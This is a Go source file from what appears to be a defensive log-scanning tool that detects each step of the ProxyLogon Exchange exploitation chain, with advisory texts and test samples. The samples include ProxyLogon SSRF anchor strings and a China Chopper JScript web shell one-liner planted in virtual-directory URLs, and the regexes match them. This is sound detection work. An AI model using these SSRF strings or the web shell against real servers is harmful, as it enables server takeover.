package builtin

import (
	"regexp"
	"strings"

	"github.com/exhunt/exhunt/detect"
	"github.com/exhunt/exhunt/event"
	"github.com/exhunt/exhunt/finding"
)

// ProxyLogon (CVE-2021-26855 SSRF, then CVE-2021-26858 / CVE-2021-27065
// file write). The SSRF shows in the HttpProxy log: the front end routed
// the request to a back end named by the attacker, which Exchange records
// as AnchorMailbox (or BackEndCookie) "ServerInfo~<host>/<path>". Test-
// ProxyLogon reports any such row except autodiscover and localhost
// targets; we report every row, one detector per step of the public chain
// (microsoft/CSS-Exchange#100), so that an autodiscover-only attempt is an
// attempt (CSS-Exchange#312), a scanner probe is a scan, and the chain
// correlator can say how far an address got.

// ssrfStep is the step of the ProxyLogon chain a back-end path belongs to.
type ssrfStep int

const (
	stepNone      ssrfStep = iota
	stepRecon              // 1 autodiscover.xml: legacy DN
	stepSID                // 2 mapi/emsmdb: SID leak
	stepSession            // 3 ecp/proxyLogon.ecp: ECP session and canary
	stepOAB                // 4 DDIService GetObject/SetObject on OABVirtualDirectory
	stepReset              // 5 Reset*VirtualDirectory: the shell is written
	stepOther              // any other back-end path (Test-ProxyLogon TPL-01 residual)
	stepLocalhost          // a localhost target: scanners and Microsoft's own probe
)

var stepNames = map[ssrfStep]string{
	stepRecon:   "autodiscover recon",
	stepSID:     "SID leak via MAPI",
	stepSession: "ECP session via proxyLogon.ecp",
	stepOAB:     "OAB virtual directory read or changed",
	stepReset:   "virtual directory reset (file written)",
	stepOther:   "other back-end path",
}

// ssrf is what one HttpProxy row says about the SSRF.
type ssrf struct {
	raw    string // the AnchorMailbox or BackEndCookie value, as logged
	target string // host part of the back-end target
	path   string // back-end path and query, lower case
	step   ssrfStep
	status string
}

// ssrfTarget reads ServerInfo~<target>/<path> from AnchorMailbox, else
// from BackEndCookie ("Server~<target>/<path>~..." as in CSS-Exchange#310).
func ssrfTarget(ev *event.Event) (ssrf, bool) {
	for _, col := range []string{"AnchorMailbox", "BackEndCookie"} {
		v := strings.TrimSpace(ev.Get(col))
		lv := strings.ToLower(v)
		var rest string
		switch {
		case strings.HasPrefix(lv, "serverinfo~"):
			rest = lv[len("serverinfo~"):]
		case col == "BackEndCookie" && strings.HasPrefix(lv, "server~"):
			rest = lv[len("server~"):]
		default:
			continue
		}
		slash := strings.IndexByte(rest, '/')
		if slash < 0 {
			continue // "ServerInfo~host" without a path is ordinary routing
		}
		s := ssrf{raw: v, target: rest[:slash], path: rest[slash:], status: clean(ev.Get("HttpStatus"))}
		s.step = classify(s, ev)
		return s, true
	}
	return ssrf{}, false
}

func isLocalTarget(host string) bool {
	h := strings.TrimSpace(host)
	if i := strings.LastIndexByte(h, '@'); i >= 0 { // "a]@host:444"
		h = h[i+1:]
	}
	h = strings.TrimPrefix(h, "[")
	return strings.HasPrefix(h, "localhost") || strings.HasPrefix(h, "127.") || strings.HasPrefix(h, "::1") || strings.HasPrefix(h, "::1]")
}

var (
	reOABDDI = regexp.MustCompile(`ddiservice\.svc/(getobject|setobject)\b.*schema=oabvirtualdirectory`)
	reReset  = regexp.MustCompile(`reset[a-z]*virtualdirectory`)
)

func classify(s ssrf, ev *event.Event) ssrfStep {
	if isLocalTarget(s.target) || strings.EqualFold(clean(ev.Get("TargetServer")), "localhost") {
		return stepLocalhost
	}
	p := s.path
	switch {
	case strings.HasPrefix(p, "/autodiscover/autodiscover.xml"):
		return stepRecon
	case strings.HasPrefix(p, "/autodiscover"):
		// Test-ProxyLogon drops every ServerInfo~*/autodiscover* row; keep
		// other autodiscover paths in the recon step too.
		return stepRecon
	case strings.HasPrefix(p, "/mapi/emsmdb"):
		return stepSID
	case strings.HasPrefix(p, "/ecp/proxylogon.ecp"):
		return stepSession
	case reReset.MatchString(p) && s.status == "200":
		return stepReset
	case reOABDDI.MatchString(p):
		return stepOAB
	}
	return stepOther
}

// ssrfHit is the Hit of a chain-step detector.
func ssrfHit(ev *event.Event, s ssrf) detect.Hit {
	h := hit(ev,
		"anchor_mailbox", clean(ev.Get("AnchorMailbox")),
		"backend_cookie", clean(ev.Get("BackEndCookie")),
		"target_host", s.target,
		"target_path", s.path,
		"target_server", clean(ev.Get("TargetServer")),
		"routing_hint", clean(ev.Get("RoutingHint")),
		"request_id", clean(ev.Get("RequestId")),
		"url_host", clean(ev.Get("UrlHost")),
	)
	if st := stepNames[s.step]; st != "" {
		h.Fields["ssrf_step"] = st
	}
	return h
}

// ssrfStepDetector builds the detector of one chain step.
func ssrfStepDetector(a finding.Advisory, want ssrfStep, samples []detect.Sample) *detect.Detector {
	return &detect.Detector{
		Advisory: a,
		Sources:  []event.Source{event.HTTPProxy},
		Keywords: []string{"serverinfo~", "server~"},
		Match: func(ev *event.Event) (detect.Hit, bool) {
			s, ok := ssrfTarget(ev)
			if !ok || s.step != want {
				return detect.Hit{}, false
			}
			return ssrfHit(ev, s), true
		},
		Samples: samples,
	}
}

var plRefs = []string{"Test-ProxyLogon TPL-01", refTPL, refCSS100}

const (
	anchorAD      = "a]@EX01.contoso.com:444/autodiscover/autodiscover.xml?#"
	anchorMAPI    = "a]@EX01.contoso.com:444/mapi/emsmdb/?#"
	anchorSession = "a]@EX01.contoso.com:444/ecp/proxyLogon.ecp?#"
	anchorOAB     = "a]@EX01.contoso.com:444/ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary=Oq94rnXI5Uy0CrZyZSP-Wbed1.&schema=OABVirtualDirectory#"
	anchorOABSet  = "a]@EX01.contoso.com:444/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=Oq94rnXI5Uy0CrZyZSP-Wbed1.&schema=OABVirtualDirectory#"
	anchorReset   = "a]@EX01.contoso.com:444/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=Oq94rnXI5Uy0CrZyZSP-Wbed1.&schema=ResetOABVirtualDirectory#"
	anchorOther   = "a]@EX01.contoso.com:444/ews/exchange.asmx?#"
	anchorLocal   = "localhost/ecp/default.flt?"
)

// Detector IDs of the chain steps; the correlator reads them.
const (
	idPLRecon    = "EXH-PL-01"
	idPLSID      = "EXH-PL-02"
	idPLSession  = "EXH-PL-03"
	idPLOAB      = "EXH-PL-04"
	idPLReset    = "EXH-PL-05"
	idPLOther    = "EXH-PL-06"
	idPLScanner  = "EXH-PL-07"
	idPLChainFmt = "EXH-PL-9%d"
)

var plStepByID = map[string]ssrfStep{
	idPLRecon: stepRecon, idPLSID: stepSID, idPLSession: stepSession, idPLOAB: stepOAB, idPLReset: stepReset, idPLOther: stepOther, idPLScanner: stepLocalhost,
}

func proxyLogonDetectors() []*detect.Detector {
	health := map[string]string{"AnchorMailbox": "Sid~S-1-5-21-1004336348-1177238915-682003330-1142", "UserAgent": "AMProbe/Local/ClientAccess", "ClientIpAddress": "127.0.0.1", "UrlStem": "/ews/", "Method": "GET", "IsAuthenticated": "true", "AuthenticatedUser": "CONTOSO\\HealthMailbox0c5d2a"}
	return []*detect.Detector{
		ssrfStepDetector(adv(idPLRecon,
			"ProxyLogon exploitation attempt: autodiscover probe through the SSRF (no compromise shown)",
			"The front end forwarded a request to a back end named by the client (AnchorMailbox ServerInfo~…/autodiscover), the first, reconnaissance step of ProxyLogon. On its own it means the attempt did not get further (no valid mailbox found); Test-ProxyLogon hides these rows, we keep them as an attempt (CSS-Exchange#312).",
			finding.Low, finding.StageAttempt, cProxyLogon, cvesProxyLogonSSRF, []string{tExploitPublic}, append([]string{refCSS312}, plRefs...)),
			stepRecon, []detect.Sample{
				proxy(true, "chain step 1: autodiscover.xml through ServerInfo~", ssrfRow(anchorAD, map[string]string{"UrlStem": "/ecp/y.js", "HttpStatus": "200"})),
				proxy(false, "SID leak row is step 2, not this detector", ssrfRow(anchorMAPI, nil)),
				proxy(false, "localhost target is a scanner probe", ssrfRow("localhost/autodiscover/autodiscover.xml?#", nil)),
				proxy(false, "health mailbox traffic", health),
			}),
		ssrfStepDetector(adv(idPLSID,
			"ProxyLogon SSRF reached the back end: MAPI request used to leak an account SID",
			"A ServerInfo~ request reached /mapi/emsmdb on a back end: the ProxyLogon step that leaks the SID of a mailbox user so that an ECP session can be forged. The authentication bypass worked.",
			finding.High, finding.StageExploit, cProxyLogon, cvesProxyLogonSSRF, []string{tExploitPublic}, plRefs),
			stepSID, []detect.Sample{
				proxy(true, "chain step 2: mapi/emsmdb", ssrfRow(anchorMAPI, map[string]string{"UrlStem": "/ecp/y.js"})),
				proxy(false, "autodiscover-only is step 1", ssrfRow(anchorAD, nil)),
				proxy(false, "ordinary MAPI traffic (MailboxGuid anchor)", map[string]string{"AnchorMailbox": "MailboxGuid~1234567-4444-1234-4567-123456789987", "UrlStem": "/mapi/emsmdb/", "UserAgent": "MapiHttpClient", "AuthenticatedUser": "CONTOSO\\jdoe"}),
			}),
		ssrfStepDetector(adv(idPLSession,
			"ProxyLogon SSRF obtained an ECP admin session (proxyLogon.ecp)",
			"A ServerInfo~ request reached /ecp/proxyLogon.ecp: the attacker used the leaked SID to get an authenticated ECP session and canary, the step before changing virtual directories.",
			finding.High, finding.StageExploit, cProxyLogon, cvesProxyLogonSSRF, []string{tExploitPublic}, plRefs),
			stepSession, []detect.Sample{
				proxy(true, "chain step 3", ssrfRow(anchorSession, nil)),
				proxy(false, "autodiscover-only is step 1", ssrfRow(anchorAD, nil)),
			}),
		ssrfStepDetector(adv(idPLOAB,
			"ProxyLogon SSRF read or changed the OAB virtual directory through ECP",
			"A ServerInfo~ request called DDIService.svc GetObject/SetObject with schema=OABVirtualDirectory: the attacker is reading or rewriting the OAB virtual directory to plant a China Chopper web shell (CVE-2021-27065). Treat the server as compromised.",
			finding.Critical, finding.StageWrite, cProxyLogon, cvesProxyLogonRCE, []string{tExploitPublic, tWebShell}, plRefs),
			stepOAB, []detect.Sample{
				proxy(true, "chain step 4, GetObject", ssrfRow(anchorOAB, nil)),
				proxy(true, "chain step 4, SetObject", ssrfRow(anchorOABSet, nil)),
				proxy(false, "proxyLogon.ecp is step 3", ssrfRow(anchorSession, nil)),
			}),
		ssrfStepDetector(adv(idPLReset,
			"ProxyLogon SSRF reset a virtual directory: web shell probably written (Test-ProxyLogon TPL-05)",
			"A ServerInfo~ request to Reset*VirtualDirectory returned HTTP 200: the step that writes the virtual-directory settings, with the attacker's script in a URL, to a file path of their choice. Look for new .aspx files under the Exchange and IIS web folders.",
			finding.Critical, finding.StageWrite, cProxyLogon, cvesProxyLogonRCE, []string{tExploitPublic, tWebShell}, []string{"Test-ProxyLogon TPL-05", refTPL}),
			stepReset, []detect.Sample{
				proxy(true, "chain step 5, status 200", ssrfRow(anchorReset, map[string]string{"HttpStatus": "200"})),
				proxy(false, "reset refused (500): residual back-end path, not a write", ssrfRow(anchorReset, map[string]string{"HttpStatus": "500"})),
			}),
		ssrfStepDetector(adv(idPLOther,
			"ProxyLogon SSRF reached another Exchange back-end path (Test-ProxyLogon TPL-01)",
			"A ServerInfo~ request went to a back-end path outside the usual chain steps (for example EWS): the CVE-2021-26855 authentication bypass was used. Review what the path does; anything but autodiscover or localhost is what Test-ProxyLogon reports as suspicious.",
			finding.High, finding.StageExploit, cProxyLogon, cvesProxyLogonSSRF, []string{tExploitPublic}, plRefs),
			stepOther, []detect.Sample{
				proxy(true, "EWS through ServerInfo~", ssrfRow(anchorOther, nil)),
				proxy(true, "BackEndCookie form (CSS-Exchange#310)", map[string]string{"AnchorMailbox": "", "BackEndCookie": "Server~a]@EX01.contoso.com:444/ews/exchange.asmx?#~1942062522"}),
				proxy(true, "reset that failed (500)", ssrfRow(anchorReset, map[string]string{"HttpStatus": "500"})),
				proxy(false, "ordinary ServerInfo~ routing without a path", map[string]string{"AnchorMailbox": "ServerInfo~EX01.contoso.com", "UrlStem": "/ews/exchange.asmx"}),
				proxy(false, "autodiscover-only", ssrfRow(anchorAD, nil)),
			}),
		ssrfStepDetector(adv(idPLScanner,
			"ProxyLogon vulnerability scan: SSRF probe aimed at localhost",
			"A ServerInfo~ request aimed at localhost (for example /owa/auth/x.js with ServerInfo~localhost/ecp/default.flt): what vulnerability scanners, Microsoft's nmap script and nuclei send to test for CVE-2021-26855. It shows the server was probed, not that it was exploited.",
			finding.Low, finding.StageRecon, cProxyLogon, cvesProxyLogonSSRF, []string{tVulnScan}, []string{refSB125, "Test-ProxyLogon TPL-01 (localhost exclusion)"}),
			stepLocalhost, []detect.Sample{
				proxy(true, "signature-base#125 style probe", ssrfRow(anchorLocal, map[string]string{"UrlStem": "/owa/auth/x.js", "Method": "GET", "HttpStatus": "500", "TargetServer": "localhost", "TargetServerVersion": "0.00.0003.000", "RoutingType": "CrossRegion", "RoutingHint": "X-AnonResource-Backend-Cookie"})),
				proxy(true, "127.0.0.1 target", ssrfRow("127.0.0.1/ecp/default.flt?~3", nil)),
				proxy(false, "real back-end target", ssrfRow(anchorMAPI, nil)),
			}),
	}
}

// --- IIS side of the same chain and the file-write traces ---

var reSG05Query = regexp.MustCompile(`(?i)schema=reset[a-z]*virtualdirectory`)

func sg05Detector() *detect.Detector {
	return &detect.Detector{
		Advisory: adv("EXH-PL-08",
			"Virtual directory reset through ECP by the Exchange machine account (ProxyLogon file write)",
			"IIS logged a successful POST to /ecp/DDI/DDIService.svc/SetObject with schema=Reset…VirtualDirectory made as a computer account (user ending in $): the SSRF'd call that writes the ProxyLogon web shell. Admins resetting a virtual directory in ECP log their own user name, not the machine account.",
			finding.Critical, finding.StageWrite, cProxyLogon, cvesProxyLogonRCE, []string{tExploitPublic, tWebShell},
			[]string{"Sigma web_cve_2021_26858_iis_rce (SG-05)", "Test-ProxyLogon TPL-05"}),
		Sources:  []event.Source{event.IIS},
		Keywords: []string{"ddiservice.svc/setobject"},
		Match: func(ev *event.Event) (detect.Hit, bool) {
			if method(ev) != "POST" || status(ev) != 200 {
				return detect.Hit{}, false
			}
			if !strings.HasSuffix(stem(ev), "/ecp/ddi/ddiservice.svc/setobject") {
				return detect.Hit{}, false
			}
			q := query(ev)
			if !reSG05Query.MatchString(q) || !strings.HasSuffix(user(ev), "$") {
				return detect.Hit{}, false
			}
			return hit(ev), true
		},
		Samples: []detect.Sample{
			iis(true, "SG-05 positive", req{Method: "POST", Stem: "/ecp/DDI/DDIService.svc/SetObject", Query: "schema=ResetOABVirtualDirectory&msExchEcpCanary=xkd92", User: "CONTOSO\\EX01$", Port: "444"}),
			iisCustom(true, "same request under a custom #Fields layout", req{Method: "POST", Stem: "/ecp/DDI/DDIService.svc/SetObject", Query: "schema=ResetOABVirtualDirectory&msExchEcpCanary=xkd92", User: "CONTOSO\\EX01$", Port: "444"}),
			iis(false, "admin resetting a vdir as themselves", req{Method: "POST", Stem: "/ecp/DDI/DDIService.svc/SetObject", Query: "schema=ResetOABVirtualDirectory&msExchEcpCanary=xkd92", User: "CONTOSO\\admin"}),
			iis(false, "ordinary SetObject on another schema", req{Method: "POST", Stem: "/ecp/DDI/DDIService.svc/SetObject", Query: "schema=MailboxCalendarConfiguration", User: "CONTOSO\\EX01$"}),
		},
	}
}

// Test-ProxyLogon TPL-03: the OAB generator logs "Download failed and
// temporary file '<path>' needs to be removed"; legitimately the path is
// under <EIP>ClientAccess\OAB. The layout of this log is not fixed by any
// anchor, so the rule reads the raw line.
var reOABDownload = regexp.MustCompile(`(?i)download failed and temporary file\s+'?(.*?)'?\s+needs to be removed`)

func oabDetector() *detect.Detector {
	const legit = `Download failed and temporary file 'C:\Program Files\Microsoft\Exchange Server\V15\ClientAccess\OAB\Temp\3c5e7bd1-1c0f-4d6a-b0b2-0d6b4e1f8c21\oab.xml' needs to be removed`
	return &detect.Detector{
		Advisory: adv("EXH-PL-09",
			"OAB download wrote a file outside the OAB folder (ProxyLogon arbitrary file write)",
			"The OAB generator reported a failed download whose temporary file is not under ClientAccess\\OAB: CVE-2021-26858 was used to write a file, usually a web shell, to that path. Failures under ClientAccess\\OAB are normal and not reported.",
			finding.Critical, finding.StageWrite, cProxyLogon, []string{"CVE-2021-26858"}, []string{tExploitPublic, tWebShell},
			[]string{"Test-ProxyLogon TPL-03", refTPL, "CHIRP AA21-062A (CHIRP-06, with the TPL-03 path exclusion)"}),
		Sources:  []event.Source{event.OABGen},
		Keywords: []string{"download failed and temporary file"},
		Match: func(ev *event.Event) (detect.Hit, bool) {
			m := reOABDownload.FindSubmatch(ev.Raw)
			if m == nil {
				return detect.Hit{}, false
			}
			p := strings.TrimSpace(string(m[1]))
			norm := strings.ToLower(strings.ReplaceAll(p, "/", `\`))
			if p == "" || strings.Contains(norm, `\clientaccess\oab\`) {
				return detect.Hit{}, false
			}
			f := map[string]string{"oab_path": p}
			for _, ext := range []string{".aspx", ".asmx", ".asax", ".ashx", ".js", ".php", ".jsp", ".cfm", ".shtml"} {
				if strings.HasSuffix(norm, ext) {
					f["script_extension"] = ext
				}
			}
			return detect.Hit{Fields: f}, true
		},
		Samples: []detect.Sample{
			oab(true, "path in the OWA auth folder", `Download failed and temporary file 'C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa\auth\shell.aspx' needs to be removed`),
			oab(true, "path in inetpub", `Download failed and temporary file 'C:\inetpub\wwwroot\aspnet_client\system_web\x.aspx' needs to be removed`),
			oab(false, "legitimate OAB failure", legit),
			oab(false, "legitimate OAB failure, other drive", `Download failed and temporary file 'D:\Exchange\ClientAccess\OAB\Temp\a1b2\oab.lzx' needs to be removed`),
		},
	}
}

// TPL-04 / CHIRP-04 / SB-L01: ECP logged a Set-*VirtualDirectory whose URL
// parameter holds markup (the China Chopper ExternalUrl).
var (
	reSetVDir = regexp.MustCompile(`(?i)set-[a-z]*virtualdirectory`)
	// A *Url parameter whose value (up to its closing quote) holds an
	// element: "ExternalUrl='http://f/<script …". Bounded by the quote so
	// that markup in another parameter does not count.
	reURLTag = regexp.MustCompile(`(?i)url\s*=\s*'?[^';]*(<|%3c|&lt;)\s*/?\s*[a-z][a-z0-9]*[^a-z0-9]`)
)

func ecpMarkupDetector() *detect.Detector {
	const shellURL = `S:TIME=411;S:SID=2f7bd7a5-4cc1-4a1e-9d6e-3b2a1e0f9c87;S:CMD=Set-OabVirtualDirectory.ExternalUrl='http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["p"],"unsafe");}</script>'.Identity='3a4ff4c7-8a4e-4b6f-9a2f-1c2d3e4f5a6b';S:REQID=;S:URL=/ecp/DDI/DDIService.svc/SetObject;S:REFERRER=;S:EX=;S:ACTID=b5cfd8b7-2a5b-4b39-9b8c-5d0f5c1d1e2f;S:RS=0;S:BLD=15.1.2176.2`
	const plainURL = `S:TIME=233;S:SID=2f7bd7a5-4cc1-4a1e-9d6e-3b2a1e0f9c87;S:CMD=Set-OwaVirtualDirectory.ExternalUrl='https://mail.contoso.com/owa'.Identity='EX01\owa (Default Web Site)';S:REQID=;S:URL=/ecp/DDI/DDIService.svc/SetObject;S:REFERRER=;S:EX=;S:ACTID=c1;S:RS=0;S:BLD=15.1.2176.2`
	return &detect.Detector{
		Advisory: adv("EXH-PL-10",
			"Script code put into an Exchange virtual directory URL through ECP (ProxyLogon web shell setup)",
			"ECP ran Set-*VirtualDirectory with HTML or script markup in a URL parameter, such as the China Chopper ExternalUrl of the OAB virtual directory (CVE-2021-27065). Plain URL changes by admins are not reported.",
			finding.Critical, finding.StageWrite, cProxyLogon, []string{"CVE-2021-27065"}, []string{tExploitPublic, tWebShell},
			[]string{"Test-ProxyLogon TPL-04", refCHIRP + " CHIRP-04", "signature-base EXPL_LOG_CVE_2021_27065_Exchange_Forensic_Artefacts_Mar21_1 (SB-L01)"}),
		Sources:  []event.Source{event.ECPServer, event.ECPActivity},
		Keywords: []string{"virtualdirectory"},
		Match: func(ev *event.Event) (detect.Hit, bool) {
			cmd := ev.Get("CMD")
			if cmd == "" {
				cmd = ev.Get("EventData")
			}
			if cmd == "" {
				cmd = string(ev.Raw)
			}
			loc := reSetVDir.FindStringIndex(cmd)
			if loc == nil || !reURLTag.MatchString(cmd[loc[1]:]) {
				return detect.Hit{}, false
			}
			return detect.Hit{Fields: map[string]string{"cmd": cmd, "url": clean(ev.Get("URL")), "server": clean(ev.Get("ServerName"))}}, true
		},
		Samples: []detect.Sample{
			ecp(true, "China Chopper ExternalUrl", shellURL),
			ecp(true, "InternalUrl, other vdir", `S:CMD=Set-EcpVirtualDirectory.InternalUrl='http://g/<script language="JScript" runat="server">function Page_Load(){eval(Request["k"],"unsafe");}</script>';S:REQID=;S:URL=/ecp/DDI/DDIService.svc/SetObject`),
			ecp(false, "plain admin URL change", plainURL),
			ecp(false, "markup in another parameter than the URL", `S:CMD=Set-OwaVirtualDirectory.ExternalUrl='https://mail.contoso.com/owa'.LogonPageLightSelectionText='<b>Light</b>';S:REQID=`),
			ecp(false, "routine inbox rule listing", `S:TIME=13;S:CMD=Get-InboxRule;S:REQID=;S:URL=/ecp/RulesEditor/InboxRules.svc/GetList?msExchEcpCanary=CANARY;S:REFERRER=;S:EX=;S:RS=0`),
		},
	}
}

// SB-L05: the SSRF entered through one of the fake static files HAFNIUM and
// the Metasploit module request (the front-end URL), aimed at a real back end.
var reShortECPJS = regexp.MustCompile(`^/ecp/[0-9a-z]{1,3}\.js$`)

var sbl05Stems = set("/ecp/auth/w.js", "/owa/auth/w.js", "/owa/auth/x.js", "/ecp/main.css", "/ecp/default.flt", "/owa/auth/current/themes/resources/logon.css")

func ssrfEntryDetector() *detect.Detector {
	return &detect.Detector{
		Advisory: adv("EXH-PL-11",
			"ProxyLogon SSRF sent through a fake static file (HAFNIUM / Metasploit style request)",
			"The SSRF request arrived on a static-looking URL such as /ecp/y.js, /owa/auth/w.js or /ecp/default.flt, the entry points used by HAFNIUM and public exploits, and was routed to a back end of the attacker's choice. Which back-end step it reached is reported separately (EXH-PL-01…06), so this row alone stays low.",
			finding.Low, finding.StageAttempt, cProxyLogon, cvesProxyLogonSSRF, []string{tExploitPublic},
			[]string{"signature-base EXPL_LOG_CVE_2021_27055_Exchange_Forensic_Artefacts (SB-L05)", refSBHafnium}),
		Sources:  []event.Source{event.HTTPProxy},
		Keywords: []string{"serverinfo~", "server~"},
		Match: func(ev *event.Event) (detect.Hit, bool) {
			s, ok := ssrfTarget(ev)
			if !ok || s.step == stepLocalhost {
				return detect.Hit{}, false
			}
			st := stem(ev)
			if !sbl05Stems[st] && !reShortECPJS.MatchString(st) {
				return detect.Hit{}, false
			}
			h := ssrfHit(ev, s)
			h.Fields["entry_point"] = st
			return h, true
		},
		Samples: []detect.Sample{
			proxy(true, "/ecp/y.js entry", ssrfRow(anchorMAPI, map[string]string{"UrlStem": "/ecp/y.js"})),
			proxy(true, "/owa/auth/w.js entry", ssrfRow(anchorSession, map[string]string{"UrlStem": "/owa/auth/w.js"})),
			proxy(false, "localhost probe through x.js is a scan", ssrfRow(anchorLocal, map[string]string{"UrlStem": "/owa/auth/x.js"})),
			proxy(false, "SSRF through an ordinary ECP URL (reported by the step detectors only)", ssrfRow(anchorMAPI, map[string]string{"UrlStem": "/ecp/default.aspx"})),
		},
	}
}

// SB-L06: GET /rpc/ with Exchange's empty-correlation suffix, answered.
func rpcArtefactDetector() *detect.Detector {
	return &detect.Detector{
		Advisory: adv("EXH-PL-12",
			"Unusual GET to /rpc/ answered by Exchange (ProxyLogon-era forensic artefact)",
			"A plain GET to /rpc/ carrying Exchange's &CorrelationID=<empty>;&RequestId= suffix got a 200/30x answer, a trace signature-base associates with CVE-2021-27065 exploitation. Outlook uses RPC_IN_DATA/RPC_OUT_DATA to /rpc/rpcproxy.dll, not GET /rpc/; the meaning of this artefact is not documented, so confirm with the other findings.",
			finding.Medium, finding.StageAttempt, cProxyLogon, []string{"CVE-2021-27065"}, []string{tExploitPublic},
			[]string{"signature-base LOG_CVE_2021_27065_Exchange_Forensic_Artefacts_Mar21_2 (SB-L06)"}),
		Sources:  []event.Source{event.IIS},
		Keywords: []string{"correlationid=<empty>;&requestid="},
		Match: func(ev *event.Event) (detect.Hit, bool) {
			if method(ev) != "GET" || stem(ev) != "/rpc/" || !succeeded(status(ev)) {
				return detect.Hit{}, false
			}
			if !strings.HasPrefix(strings.ToLower(query(ev)), "&correlationid=<empty>;&requestid=") {
				return detect.Hit{}, false
			}
			return hit(ev), true
		},
		Samples: []detect.Sample{
			iis(true, "SB-L06 shape", req{Stem: "/rpc/", Query: "&CorrelationID=<empty>;&RequestId=6f1e2d3c-4b5a-6978-8091-a2b3c4d5e6f7", Status: "200"}),
			iis(false, "Outlook Anywhere traffic", req{Method: "RPC_IN_DATA", Stem: "/rpc/rpcproxy.dll", Query: "EX01.contoso.com:6001&CorrelationID=<empty>;&RequestId=6f1e2d3c", Status: "200", User: "CONTOSO\\jdoe"}),
			iis(false, "refused", req{Stem: "/rpc/", Query: "&CorrelationID=<empty>;&RequestId=6f1e2d3c-4b5a-6978-8091-a2b3c4d5e6f7", Status: "401"}),
		},
	}
}
